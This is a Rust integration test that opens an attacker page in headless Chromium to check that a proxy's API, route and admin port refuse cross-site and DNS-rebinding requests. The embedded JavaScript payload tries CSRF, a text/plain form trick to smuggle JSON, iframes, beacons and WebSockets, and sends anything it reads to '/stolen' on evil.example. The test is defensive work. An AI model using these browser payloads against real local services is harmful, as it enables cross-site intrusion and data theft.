//! A real Chromium on a page of another site, which tries to use the API, a route and the admin
//! port. Nothing may arrive behind them, and nothing may be read.

use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt as _, BufReader};
use tokio::process::Command;

use crate::harness::buffers::{SPOOL, call, made, until};
use crate::harness::{Origin, Program, bytes_body, free_port, reply, soon};

/// Page of the attacker. Each attempt that reads anything sends it to `/stolen`.
const ATTACK: &str = r#"<!doctype html><body><script>
const json = '{"name":"evil","url":"http://plain.test/","body":"evil","burst":9,"hold":"1h"}';
const steal = (response) => response.text().then((text) => text && fetch('/stolen?' + escape(text)));
const post = (url, options) => fetch(url, { method: 'POST', body: json, ...options }).then(steal, () => 0);
const simple = { mode: 'no-cors' };
const frame = (fill) => {
  const frame = document.createElement('iframe');
  const loaded = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 3000); });
  fill(frame);
  document.body.append(frame);
  return loaded;
};
const form = (url) => frame((frame) => {
  frame.name = 'f' + Math.random();
  frame.srcdoc = 'empty';
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: url, enctype: 'text/plain', target: frame.name });
  form.innerHTML = '<input name=\'{"body":"evil","x":"\' value=\'"}\'>';
  document.body.append(form);
  setTimeout(() => form.submit(), 100);
});
addEventListener('message', (event) => fetch('/stolen?message=' + escape(event.data)));
(async () => {
  const attempts = [frame((frame) => { frame.src = '/page'; })];
  for (const host of ['localhost', '127.0.0.1', 'evil.example']) {
    const [api, route, admin] = [API, ROUTE, ADMIN].map((port) => `http://${host}:${port}`);
    const pin = admin + '/v1/targets/api/limits/pace';
    for (const url of [api + '/buffers', api + '/buffers/b/items', api + '/v1/targets/api/acquire', route + '/pay', admin + '/v1/reload']) {
      attempts.push(post(url, simple), post(url, {}), form(url));
      attempts.push(post(url, { ...simple, body: new Blob([json]) }));
      attempts.push(post(url, { headers: { 'content-type': 'application/json' } }));
      navigator.sendBeacon(url, json);
      attempts.push(frame((frame) => {
        frame.sandbox = 'allow-scripts allow-forms';
        frame.srcdoc = `<script>fetch('${url}', { method: 'POST', mode: 'no-cors', body: '${json}' })<\/script>`;
      }));
    }
    attempts.push(new Promise((resolve) => {
      const socket = new WebSocket(route.replace('http', 'ws') + '/socket');
      Object.assign(socket, { onclose: resolve, onopen: () => fetch('/stolen?socket') });
    }));
    attempts.push(post(pin, { method: 'PATCH', headers: { 'content-type': 'application/json' } }));
    for (const url of [api + '/buffers', api + REPLAY, route + '/list', admin + '/v1/status', admin + '/metrics']) {
      attempts.push(fetch(url).then(steal, () => 0), fetch(url, simple).then(steal, () => 0));
      attempts.push(frame((frame) => { frame.src = url; }));
      attempts.push(new Promise((resolve) => {
        const script = document.createElement('script');
        Object.assign(script, { src: url, onload: resolve, onerror: resolve });
        document.body.append(script);
      }));
    }
  }
  await Promise.all(attempts);
  await fetch('/done?' + attempts.length);
})();
</script>"#;

/// Page that shows where its script runs, by a request to the attacker and by its text.
const PAGE: &str = "<!doctype html><p id=p>quiet</p><script>p.textContent = 'script ran';\
    new Image().src = 'http://evil.example:EVIL/ran?' + location.host;\
    parent.postMessage('ran on ' + location.host, '*');</script>";

/// Answers with an HTML page.
fn html(text: String) -> crate::harness::Reply {
    let mut page = reply(200, "");
    *page.body_mut() = bytes_body(text);
    let kind = "text/html".parse().unwrap();
    page.headers_mut().insert("content-type", kind);
    page
}

/// Returns a command that loads a URL in a new Chromium, which stays open.
fn chromium(profile: &Path, url: &str) -> Command {
    let mut chromium = Command::new("chromium");
    chromium.args([
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--no-proxy-server",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
    ]);
    chromium.arg(format!("--user-data-dir={}", profile.display()));
    // Downloads go below the home directory.
    chromium.arg(url).env("HOME", profile);
    chromium.stdin(Stdio::null()).stderr(Stdio::piped());
    chromium.stdout(Stdio::null()).kill_on_drop(true);
    chromium
}

/// Opens the page of the attacker until it has tried everything for the `runs`-th time.
async fn run_attack(profile: &Path, url: &str, evil: &Origin, runs: usize) {
    let mut browser = chromium(profile, url);
    let mut browser = browser.stderr(Stdio::null()).spawn().unwrap();
    loop {
        let count = evil.arrivals.count();
        let all = evil.arrivals.all();
        if all.iter().filter(|a| a.uri == "/done?157").count() == runs {
            break;
        }
        evil.arrivals.reached(count + 1).await;
    }
    browser.kill().await.unwrap();
}

/// Loads a page and returns its document.
async fn dump(profile: &Path, url: &str) -> String {
    let mut chromium = chromium(profile, url);
    chromium.arg("--dump-dom").stdout(Stdio::piped());
    let output = soon("the end of Chromium", chromium.output())
        .await
        .unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Opens a URL that Chromium stores as a file, and waits until it has given up showing a page.
async fn download(profile: &Path, url: &str) {
    let mut browser = chromium(profile, url);
    let mut browser = browser.arg("--dump-dom").spawn().unwrap();
    let mut lines = BufReader::new(browser.stderr.take().unwrap()).lines();
    let given_up = async {
        while let Some(line) = lines.next_line().await.unwrap() {
            if line.contains("Page load failed: net::ERR_ABORTED") {
                return;
            }
        }
        panic!("Chromium showed the page");
    };
    soon("the end of the navigation", given_up).await;
    browser.kill().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn p10_closed_no_page_in_chromium_gets_in() {
    let found = std::process::Command::new("chromium")
        .arg("--version")
        .output();
    if !found.is_ok_and(|found| found.status.success()) {
        println!("NOT RUN: chromium: it is not installed");
        return;
    }
    let attack: Arc<Mutex<String>> = Arc::default();
    let page = Arc::new(Mutex::new(PAGE.to_owned()));
    let (served, shown) = (Arc::clone(&attack), Arc::clone(&page));
    let evil = Origin::with(move |_, request| {
        let text = match request.uri().path() {
            "/attack" => served.lock().unwrap().clone(),
            "/page" => shown.lock().unwrap().clone(),
            _ => String::new(),
        };
        async move { html(text) }
    });
    let evil = evil.start().await;
    let written = PAGE.replace("EVIL", &evil.plain.port().to_string());
    page.lock().unwrap().clone_from(&written);
    let origin = Origin::with(move |_, _| {
        let text = written.clone();
        async move { html(text) }
    });
    let origin = origin.start().await;
    let route = free_port();
    let config = format!(
        "{SPOOL}targets:\n  - {{ name: api, hosts: [plain.test], limits: [{{ name: pace, rate: \"10000/1s\" }}], set_headers_over_http: true, set_headers: {{ authorization: \"Bearer operator\" }} }}\n\
         routes: [{{ listen: \"127.0.0.1:{route}\", to: \"http://plain.test\" }}]\n"
    );
    let program = Program::before(&origin, &config).await;
    made(&program, &json!({})).await;
    let (_, item) = call(&program, "POST", "/buffers/b/items", json!({ "body": "x" })).await;
    until(&program, "delivered", 1).await;
    let replay = format!("/items/{}/response", item["id"].as_str().unwrap());
    let api = program.listen.port();
    *attack.lock().unwrap() = ATTACK
        .replace(
            "[API, ROUTE, ADMIN]",
            &format!("[{api}, {route}, {}]", program.admin.port()),
        )
        .replace("REPLAY", &format!("'{replay}'"));
    let profile = tempfile::tempdir().unwrap();
    for (index, host) in ["evil.example", "localhost"].into_iter().enumerate() {
        let url = format!("http://{host}:{}/attack", evil.plain.port());
        run_attack(profile.path(), &url, &evil, index + 1).await;
    }
    // A user who opens a stored page gets a file. Its script does not run.
    let stored = format!("http://localhost:{api}{replay}");
    download(profile.path(), &stored).await;
    program
        .record(|r| r["path"] == replay.as_str() && r["status"] == 200)
        .await;
    let rebound = dump(
        profile.path(),
        &format!("http://evil.example:{api}/buffers"),
    )
    .await;
    assert!(rebound.contains("unknown-host"), "{rebound}");

    let paths: Vec<String> = evil.arrivals.all().iter().map(|a| a.uri.clone()).collect();
    let with = |text: &str| {
        paths
            .iter()
            .filter(|path| path.contains(text))
            .collect::<Vec<_>>()
    };
    assert_eq!(with("/done").len(), 2, "{paths:?}");
    // The page runs where the attacker serves it, so its absence elsewhere means something.
    assert_eq!(with("/ran").len(), 2, "{paths:?}");
    let stolen = with("/stolen");
    let foreign = stolen
        .iter()
        .filter(|path| !path.contains("message=ran%20on"));
    assert_eq!(foreign.count(), 0, "{stolen:?}");
    assert!(
        with(&format!("/ran?localhost:{api}")).is_empty(),
        "{paths:?}"
    );
    assert_eq!(
        origin.arrivals.count(),
        1,
        "only the item of the test arrives"
    );
    let (_, buffers) = call(&program, "GET", "/buffers", "").await;
    assert_eq!(buffers["buffers"].as_array().unwrap().len(), 1, "{buffers}");
    assert_eq!(buffers["buffers"][0]["items"]["delivered"], 1, "{buffers}");
    let (_, status) = program.admin_get("/v1/status").await;
    assert!(!status.contains("burst 9"), "{status}");
    check_refusals(&program.records());
}

/// Checks that the browser did send requests to each way in, and that all of them were refused.
fn check_refusals(records: &[Value]) {
    let refused = |ingress: &str, reason: &str| {
        let is = |r: &&Value| r["ingress"] == ingress && r["reason"] == reason;
        records.iter().filter(is).count()
    };
    for (ingress, reason) in [
        ("direct", "cross-site"),
        ("direct", "unknown-host"),
        ("route", "cross-site"),
        ("route", "unknown-host"),
    ] {
        let count = refused(ingress, reason);
        assert!(count >= 10, "{ingress} {reason}: {count}");
    }
}
